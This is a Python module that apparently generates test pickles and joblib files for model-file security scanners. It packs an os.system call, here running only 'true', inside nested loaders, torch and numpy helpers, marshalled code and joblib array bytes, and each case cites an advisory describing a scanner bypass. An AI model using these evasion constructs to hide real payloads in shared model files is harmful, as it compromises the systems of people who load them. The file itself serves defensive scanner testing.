"""Pickles whose bytes, or files that they name, are read as another pickle by what they call."""

import base64
import marshal
import types
import zlib

import cloudpickle

from .archives import torch_archive
from .assemble import (
    EMPTY_TUPLE,
    HARMLESS_CODE,
    HARMLESS_EXPRESSION,
    NEWOBJ,
    REDUCE,
    STOP,
    SYSTEM,
    Opcodes,
    call,
    encode,
    frame,
    proto,
    stack_name,
    table,
    text,
)
from .direct import FICKLING, PICKLESCAN

HUB = "https://huggingface.co/docs/hub/security-pickle"
CLOAK = "https://arxiv.org/abs/2508.19774"


def buffer(content):
    return Opcodes(call(stack_name("io", "BytesIO"), content))


def loads(module, attribute, content):
    return proto(4) + call(stack_name(module, attribute), content) + STOP


def nested(depth):
    """Pickle in zlib in base64 in a pickle, and so on."""
    pickled = SYSTEM
    for _ in range(depth):
        packed = base64.b64encode(zlib.compress(pickled, 9))
        plain = call(stack_name("base64", "b64decode"), packed)
        pickled = loads("pickle", "loads", Opcodes(call(stack_name("zlib", "decompress"), Opcodes(plain))))
    return pickled


def code_of(source, mode):
    return compile(source, "corpus", mode)


def function():
    """A function made of compiled code; it is never run here."""
    return types.FunctionType(code_of(HARMLESS_EXPRESSION, "eval"), {})


def marshalled():
    code = call(stack_name("marshal", "loads"), marshal.dumps(code_of(HARMLESS_CODE, "exec")))
    made = call(stack_name("types", "FunctionType"), Opcodes(code), {})
    return proto(4) + made + EMPTY_TUPLE + REDUCE + STOP


def array_wrapper(dtype_letters, shape, content):
    """How joblib writes an array within a pickle: its wrapper, then the array's bytes where they are."""
    dtype = call(stack_name("numpy", "dtype"), dtype_letters, False, True)
    state = table(
        (text("subclass"), stack_name("numpy", "ndarray")),
        (text("shape"), encode(shape)),
        (text("order"), text("C")),
        (text("dtype"), dtype),
        (text("allow_mmap"), b"\x89"),
        (text("numpy_array_alignment_bytes"), b"N"),
    )
    wrapper = stack_name("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
    return wrapper + state + b"b" + content


def items():
    yield "stage-pickle-loads.pkl", loads("pickle", "loads", SYSTEM), "pickle.loads of bytes within", "https://github.com/protectai/modelscan/issues/267"
    yield "stage-c-pickle-loads.pkl", loads("_pickle", "loads", SYSTEM), "_pickle.loads of bytes within", PICKLESCAN + "GHSA-84r2-jw7c-4r5q"
    yield "stage-five-deep.pkl", nested(5), "five pickles within each other, by zlib and base64", "https://github.com/promptfoo/modelaudit/pull/153"
    yield "stage-torch-storage.pkl", loads("torch.storage", "_load_from_bytes", torch_archive({"data.pkl": SYSTEM})), "torch.storage._load_from_bytes of a hostile archive", CLOAK
    yield "stage-torch-load.pkl", loads("torch.serialization", "load", buffer(torch_archive({"data.pkl": SYSTEM}))), "torch.load of bytes within", "https://github.com/mmaitre314/picklescan"
    yield "stage-joblib-load.pkl", loads("joblib", "load", buffer(SYSTEM)), "joblib.load of bytes within", CLOAK
    yield "stage-joblib-path.pkl", loads("joblib.numpy_pickle", "load", "second-stage.bin"), "joblib.load of another file", CLOAK
    yield "stage-pandas.pkl", loads("pandas.io.pickle", "read_pickle", buffer(SYSTEM)), "pandas.read_pickle of bytes within", CLOAK
    yield "stage-numpy-load.pkl", proto(4) + call(stack_name("numpy", "load"), buffer(SYSTEM), None, True) + STOP, "numpy.load with allow_pickle", CLOAK
    yield "stage-dill.pkl", loads("dill", "loads", SYSTEM), "dill.loads of bytes within", "https://github.com/trailofbits/fickling/pull/215"
    yield "stage-torch-config.pkl", proto(4) + call(stack_name("torch.utils._config_module", "ConfigModule.load_config"), {}, SYSTEM) + STOP, "a torch function that unpickles bytes", PICKLESCAN + "GHSA-vv6j-3g6g-2pvj"
    yield "stage-torch-decoder.pkl", proto(4) + call(stack_name("torch.utils.data.datapipes.utils.decoder", "basichandlers"), "pickle", SYSTEM) + STOP, "a torch function that unpickles bytes", PICKLESCAN + "GHSA-h3qp-7fh3-f8h4"
    yield "stage-grammar-loads.pkl", proto(4) + call(stack_name("lib2to3.pgen2.grammar", "Grammar.loads"), {}, SYSTEM) + STOP, "a function of lib2to3 that unpickles bytes", PICKLESCAN + "GHSA-f54q-57x4-jg88"
    yield "stage-marshal.pkl", marshalled(), "a function made of marshalled code, called", FICKLING + "GHSA-565g-hwwr-4pp3"
    yield "stage-cloudpickle.pkl", cloudpickle.dumps(function())[:-1] + EMPTY_TUPLE + REDUCE + STOP, "a function in the form of cloudpickle, called", PICKLESCAN + "GHSA-9m3x-qqw2-h32h"
    yield "joblib-object-array.joblib", proto(4) + array_wrapper("O8", (1,), SYSTEM) + STOP, "joblib: an array of objects is a pickle within the pickle", "CVE-2024-34997"
    numbers = b"\x00\xff.\xfe" * 16
    rest = call(stack_name("os", "system"), "true")
    yield "joblib-after-array.joblib", proto(4) + array_wrapper("u1", (64,), numbers) + b"0" + rest + STOP, "joblib: the call stands behind the raw bytes of an array", CLOAK
    yield "joblib-after-aligned.joblib", proto(4) + frame(text("weights") + b"0") + array_wrapper("f8", (4,), b".\x00\x80\x04\x95" * 6 + b"..") + b"0" + rest + STOP, "joblib: raw bytes that look like the start and the end of pickles, then the call", CLOAK
